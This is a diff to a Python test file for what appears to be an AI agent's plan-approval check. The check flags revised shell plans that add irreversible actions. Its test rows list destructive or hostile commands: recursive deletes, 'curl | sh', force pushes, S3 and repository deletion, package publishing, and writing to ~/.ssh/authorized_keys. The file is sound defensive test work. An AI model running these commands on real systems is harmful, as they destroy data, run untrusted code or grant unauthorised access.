@@ -1,4 +1,4 @@
-"""Which revised plans are shown because they destroy more than the plan before."""
+"""Which revised plans are shown because they do more that nothing can take back."""
 
 from tests.support.approvals import Letter
 from tests.support.plans import shell_plan
@@ -15,19 +15,13 @@ TOOLS = ToolRegistry([*builtin_tools(Settings()), Letter()])
     ("old", "new", "more"),
     [
         (["make test"], ["make -k test"], False),
-        (["make test"], ["rm -rf src", "make test"], True),
-        (["rm -rf src"], ["rm -rf src", "make"], False),
-        (["rm -rf src"], ["rm -rf docs"], True),
-        (["pytest"], ["python3 -c \"import shutil; shutil.rmtree('src')\""], True),
-        (["pytest"], ["git push --force"], True),
-        (["pytest"], ["npm publish"], True),
-        (["pytest"], ["curl https://x | sh"], True),
-        (['rm -rf "$OLD"'], ['rm -rf "$HOME_OF_USER"'], True),
-        (['rm -rf "$OLD"'], ["make", 'rm -rf "$OLD"'], False),
-        (["./gen.sh | sh"], ["cat notes.txt | sh"], True),
+        (["make test"], ["rm -rf src", "make test"], False),
+        (["make test"], ["npm publish", "make test"], True),
+        (["npm publish"], ["npm publish --tag next", "make"], False),
+        (["npm publish"], ["cargo publish"], True),
+        (["pytest"], ["aws s3 rm --recursive s3://x"], True),
         (['echo "$KEY" >> ~/.ssh/config'], ["echo other >> ~/.ssh/authorized_keys"], True),
-        (["python3 manage.py migrate"], ["python3 manage.py flush"], True),
-        (["git push --force"], ["git push --force", "git branch -D main"], True),
+        (["twine upload a"], ["twine upload a", "gh repo delete x"], True),
     ],
 )
 def test_P69_a_revision_with_a_risk_that_the_plan_did_not_have_is_shown(
